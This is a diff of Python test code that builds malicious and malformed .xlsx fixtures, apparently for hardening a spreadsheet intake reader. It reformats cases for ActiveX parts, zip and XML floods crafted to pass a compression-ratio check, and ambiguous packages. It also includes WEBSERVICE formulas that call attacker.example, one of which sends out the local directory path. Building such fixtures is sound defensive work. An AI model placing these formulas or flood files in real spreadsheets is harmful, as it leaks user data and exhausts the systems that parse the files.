+            b'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
+            "application/vnd.ms-office.activeX+xml",
+        ).zip(),
+    ),
     # Missing parts.
     ("no-content-types.xlsx", "missing-part", lambda pkg: _without(pkg, "[Content_Types].xml")),
     ("no-workbook.xlsx", "missing-part", lambda pkg: _without(pkg, "xl/workbook.xml")),
-    ("no-workbook-rels.xlsx", "missing-part",
-     lambda pkg: _without(pkg, "xl/_rels/workbook.xml.rels")),
+    (
+        "no-workbook-rels.xlsx",
+        "missing-part",
+        lambda pkg: _without(pkg, "xl/_rels/workbook.xml.rels"),
+    ),
     ("missing-sheet.xlsx", "missing-part", lambda pkg: _without(pkg, pkg.sheet)),
     # Sheets and text far beyond a return.
-    ("xfd-lying-dimension.xlsx", "sheet-too-large", lambda pkg: _dimension(pkg, "A1:C8").cells(
-        '<row><c r="XFD1048576"><v>1</v></c></row>').zip()),
-    ("xfd-honest-dimension.xlsx", "sheet-too-large", lambda pkg: _dimension(
-        pkg, "A1:XFD1048576").cells('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>').zip()),
+    (
+        "xfd-lying-dimension.xlsx",
+        "sheet-too-large",
+        lambda pkg: (
+            _dimension(pkg, "A1:C8").cells('<row><c r="XFD1048576"><v>1</v></c></row>').zip()
+        ),
+    ),
+    (
+        "xfd-honest-dimension.xlsx",
+        "sheet-too-large",
+        lambda pkg: (
+            _dimension(pkg, "A1:XFD1048576")
+            .cells('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
+            .zip()
+        ),
+    ),
     ("dimension-only.xlsx", "sheet-too-large", lambda pkg: _dimension(pkg, "A1:XFD1048576").zip()),
-    ("far-column.xlsx", "sheet-too-large",
-     lambda pkg: pkg.cells('<row r="1990"><c r="HZ1990"><v>1</v></c></row>').zip()),
+    (
+        "far-column.xlsx",
+        "sheet-too-large",
+        lambda pkg: pkg.cells('<row r="1990"><c r="HZ1990"><v>1</v></c></row>').zip(),
+    ),
     ("far-row.xlsx", "sheet-too-large", lambda pkg: pkg.cells('<row r="1048576"/>').zip()),
-    ("huge-merge.xlsx", "sheet-too-large", lambda pkg: pkg.after_data(
-        '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>').zip()),
-    ("huge-hyperlink.xlsx", "sheet-too-large", lambda pkg: pkg.after_data(
-        '<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>').zip()),
+    (
+        "huge-merge.xlsx",
+        "sheet-too-large",
+        lambda pkg: pkg.after_data(
+            '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
+        ).zip(),
+    ),
+    (
+        "huge-hyperlink.xlsx",
+        "sheet-too-large",
+        lambda pkg: pkg.after_data(
+            '<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>'
+        ).zip(),
+    ),
     # Stored, not deflated, so that these get past the compression-ratio check.
-    ("element-flood.xlsx", "too-large",
-     lambda pkg: _stored(pkg, pkg.sheet, _sheet("<x/>" * 700_000))),
-    ("deep-nesting.xlsx", "too-large",
-     lambda pkg: _stored(pkg, pkg.sheet, _sheet("<a>" * 700_000))),
-    ("relationship-flood.xlsx", "too-large", lambda pkg: _stored(
-        pkg, "xl/_rels/workbook.xml.rels", pkg.parts["xl/_rels/workbook.xml.rels"].replace(
-            b"</Relationships>", b'<Relationship Id="x" Type="t" Target="t"/>' * 25_000
-            + b"</Relationships>"))),
-    ("too-many-cells.xlsx", "too-many-cells",
-     lambda pkg: _replace(pkg, pkg.sheet, _grid(1000, 150))),
-    ("many-strings.xlsx", "too-much-text",
-     lambda pkg: _replace(pkg, _strings(pkg), _sst("<si><t>x</t></si>" * 60_000))),
-    ("long-string.xlsx", "too-much-text",
-     lambda pkg: _replace(pkg, _strings(pkg), _sst(f"<si><t>{'x' * 40_000}</t></si>"))),
-    ("lying-unique-count.xlsx", "too-much-text",
-     lambda pkg: _replace(pkg, _strings(pkg), _sst("<si><t>x</t></si>", "4000000000"))),
+    (
+        "element-flood.xlsx",
+        "too-large",
+        lambda pkg: _stored(pkg, pkg.sheet, _sheet("<x/>" * 700_000)),
+    ),
+    (
+        "deep-nesting.xlsx",
+        "too-large",
+        lambda pkg: _stored(pkg, pkg.sheet, _sheet("<a>" * 700_000)),
+    ),
+    (
+        "relationship-flood.xlsx",
+        "too-large",
+        lambda pkg: _stored(
+            pkg,
+            "xl/_rels/workbook.xml.rels",
+            pkg.parts["xl/_rels/workbook.xml.rels"].replace(
+                b"</Relationships>",
+                b'<Relationship Id="x" Type="t" Target="t"/>' * 25_000 + b"</Relationships>",
+            ),
+        ),
+    ),
+    (
+        "too-many-cells.xlsx",
+        "too-many-cells",
+        lambda pkg: _replace(pkg, pkg.sheet, _grid(1000, 150)),
+    ),
+    (
+        "many-strings.xlsx",
+        "too-much-text",
+        lambda pkg: _replace(pkg, _strings(pkg), _sst("<si><t>x</t></si>" * 60_000)),
+    ),
+    (
+        "long-string.xlsx",
+        "too-much-text",
+        lambda pkg: _replace(pkg, _strings(pkg), _sst(f"<si><t>{'x' * 40_000}</t></si>")),
+    ),
+    (
+        "lying-unique-count.xlsx",
+        "too-much-text",
+        lambda pkg: _replace(pkg, _strings(pkg), _sst("<si><t>x</t></si>", "4000000000")),
+    ),
     # Packages two programs could read two ways, and formulas that reach outside.
-    ("second-workbook.xlsx", "ambiguous-package", lambda pkg: pkg.add(
-        "xl/book2.xml", pkg.parts["xl/workbook.xml"]).relate(
-        "", f"{OFFICE_RELS}/officeDocument", "/xl/book2.xml").zip()),
+    (
+        "second-workbook.xlsx",
+        "ambiguous-package",
+        lambda pkg: (
+            pkg.add("xl/book2.xml", pkg.parts["xl/workbook.xml"])
+            .relate("", f"{OFFICE_RELS}/officeDocument", "/xl/book2.xml")
+            .zip()
+        ),
+    ),
     ("demoted-workbook.xlsx", "ambiguous-package", lambda pkg: _main_type(pkg, "application/xml")),
-    ("duplicate-relationship-id.xlsx", "ambiguous-package", lambda pkg: pkg.edit(
-        "xl/_rels/workbook.xml.rels", "</Relationships>",
-        f'<Relationship Id="rId1" Type="{OFFICE_RELS}/worksheet" Target="/{pkg.sheet}"/></Relationships>').zip()),
-    ("strict-open-xml.xlsx", "strict-xlsx", lambda pkg: pkg.edit(
-        "_rels/.rels", f"{OFFICE_RELS}/officeDocument",
-        "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument").zip()),
-    ("cell-in-extension.xlsx", "ambiguous-cell", lambda pkg: pkg.after_data(
-        '<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><c r="B2"><v>163.5</v></c></ext></extLst>'
-    ).zip()),
-    ("cell-given-twice.xlsx", "ambiguous-cell",
-     lambda pkg: pkg.cells('<row r="1999"><c r="B1999"><v>1</v></c><c r="B1999"><v>2</v></c></row>').zip()),
-    ("webservice-formula.xlsx", "outward-formula", lambda pkg: pkg.cells(
-        '<row r="1999"><c r="B1999"><f>_xlfn.WEBSERVICE("https://attacker.example/?"&amp;INFO("directory"))</f>'
-        "</c></row>").zip()),
-    ("webservice-format.xlsx", "outward-formula", lambda pkg: pkg.after_data(
-        '<conditionalFormatting sqref="B2"><cfRule type="expression" priority="1" dxfId="0">'
-        '<formula>LEN(WEBSERVICE("https://attacker.example/"))&gt;0</formula></cfRule></conditionalFormatting>'
-    ).zip()),
+    (
+        "duplicate-relationship-id.xlsx",
+        "ambiguous-package",
+        lambda pkg: pkg.edit(
+            "xl/_rels/workbook.xml.rels",
+            "</Relationships>",
+            f'<Relationship Id="rId1" Type="{OFFICE_RELS}/worksheet" Target="/{pkg.sheet}"/></Relationships>',
+        ).zip(),
+    ),
+    (
+        "strict-open-xml.xlsx",
+        "strict-xlsx",
+        lambda pkg: pkg.edit(
+            "_rels/.rels",
+            f"{OFFICE_RELS}/officeDocument",
+            "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
+        ).zip(),
+    ),
+    (
+        "cell-in-extension.xlsx",
+        "ambiguous-cell",
+        lambda pkg: pkg.after_data(
+            '<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><c r="B2"><v>163.5</v></c></ext></extLst>'
+        ).zip(),
+    ),
+    (
+        "cell-given-twice.xlsx",
+        "ambiguous-cell",
+        lambda pkg: pkg.cells(
+            '<row r="1999"><c r="B1999"><v>1</v></c><c r="B1999"><v>2</v></c></row>'
+        ).zip(),
+    ),
+    (
+        "webservice-formula.xlsx",
+        "outward-formula",
+        lambda pkg: pkg.cells(
+            '<row r="1999"><c r="B1999"><f>_xlfn.WEBSERVICE("https://attacker.example/?"&amp;INFO("directory"))</f>'
+            "</c></row>"
+        ).zip(),
+    ),
+    (
+        "webservice-format.xlsx",
+        "outward-formula",
+        lambda pkg: pkg.after_data(
+            '<conditionalFormatting sqref="B2"><cfRule type="expression" priority="1" dxfId="0">'
+            '<formula>LEN(WEBSERVICE("https://attacker.example/"))&gt;0</formula></cfRule></conditionalFormatting>'
+        ).zip(),
+    ),
 ]
 
 # Found in the cells, by the reader as it reads them (``xl_ni179.intake.reader``, under the
 # safety limits); every other case is refused by the package check before any reader runs.
-IN_CELLS = frozenset({
-    "malformed-sheet.xlsx", "bad-cell-ref.xlsx", "dde-formula.xlsx", "dde-validation.xlsx",
-    "xfd-lying-dimension.xlsx", "xfd-honest-dimension.xlsx", "dimension-only.xlsx", "far-column.xlsx",
-    "far-row.xlsx", "huge-merge.xlsx", "huge-hyperlink.xlsx", "element-flood.xlsx", "deep-nesting.xlsx",
-    "too-many-cells.xlsx", "many-strings.xlsx", "long-string.xlsx", "lying-unique-count.xlsx",
-    "cell-in-extension.xlsx", "cell-given-twice.xlsx", "webservice-formula.xlsx",
-})
+IN_CELLS = frozenset(
+    {
+        "malformed-sheet.xlsx",
+        "bad-cell-ref.xlsx",
+        "dde-formula.xlsx",
+        "dde-validation.xlsx",
+        "xfd-lying-dimension.xlsx",
+        "xfd-honest-dimension.xlsx",
+        "dimension-only.xlsx",
+        "far-column.xlsx",
+        "far-row.xlsx",
+        "huge-merge.xlsx",
+        "huge-hyperlink.xlsx",
+        "element-flood.xlsx",
+        "deep-nesting.xlsx",
+        "too-many-cells.xlsx",
+        "many-strings.xlsx",
+        "long-string.xlsx",
+        "lying-unique-count.xlsx",
+        "cell-in-extension.xlsx",
+        "cell-given-twice.xlsx",
+        "webservice-formula.xlsx",
+    }
+)
 
-PIPES = ('<row r="1999"><c r="A1999"><f>"a|b DDE(x)"&amp;B2</f></c><c r="B1999"><f>\'Q|1\'!A1</f>'
-         "</c><c r=\"C1999\"><f>SUM(Table1[[#This Row],[a'[b|c]])</f></c></row>")
+PIPES = (
+    '<row r="1999"><c r="A1999"><f>"a|b DDE(x)"&amp;B2</f></c><c r="B1999"><f>\'Q|1\'!A1</f>'
+    '</c><c r="C1999"><f>SUM(Table1[[#This Row],[a\'[b|c]])</f></c></row>'
+)
 SVG = b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg/>'
 
 BENIGN: list[tuple[str, Builder]] = [
@@ -540,12 +924,26 @@ BENIGN: list[tuple[str, Builder]] = [
     ("utf16-sheet.xlsx", lambda pkg: _utf16(pkg, pkg.sheet, "", "utf-16")),
     ("windows-1252.xlsx", lambda pkg: _reencode(pkg, "xl/styles.xml", "windows-1252", "cp1252")),
     ("stored.xlsx", lambda pkg: raw_zip([Entry(n, d, method=0) for n, d in pkg.parts.items()])),
-    ("folder-entries.xlsx", lambda pkg: _extra(pkg, Entry("xl/", method=0),
-                                               Entry("xl/worksheets/", method=0))),
-    ("prefixed-namespace.xlsx", lambda pkg: _replace(pkg, pkg.sheet, _sheet(
-        '<x:row r="1"><x:c r="A1"><x:v>1</x:v></x:c></x:row>', prefix="x"))),
-    ("cells-without-refs.xlsx", lambda pkg: _replace(pkg, pkg.sheet, _sheet(
-        "<row><c><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row>"))),
+    (
+        "folder-entries.xlsx",
+        lambda pkg: _extra(pkg, Entry("xl/", method=0), Entry("xl/worksheets/", method=0)),
+    ),
+    (
+        "prefixed-namespace.xlsx",
+        lambda pkg: _replace(
+            pkg,
+            pkg.sheet,
+            _sheet('<x:row r="1"><x:c r="A1"><x:v>1</x:v></x:c></x:row>', prefix="x"),
+        ),
+    ),
+    (
+        "cells-without-refs.xlsx",
+        lambda pkg: _replace(
+            pkg,
+            pkg.sheet,
+            _sheet("<row><c><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row>"),
+        ),
+    ),
     # Pictures are never parsed by a workbook reader, so a DTD in an SVG is left alone.
     ("svg-with-doctype.xlsx", lambda pkg: _extra(pkg, Entry("xl/media/image9.svg", SVG))),
     ("largest-allowed-sheet.xlsx", lambda pkg: _replace(pkg, pkg.sheet, _grid(600, 150))),
@@ -571,6 +969,7 @@ def build_benign(base: Path, out_dir: Path) -> list[Path]:
 
 
 # --- parse functions for the bounded runner (run in a worker, found by name) -------------------
+
 
 def file_size(path: str) -> int:
     return os.path.getsize(path)
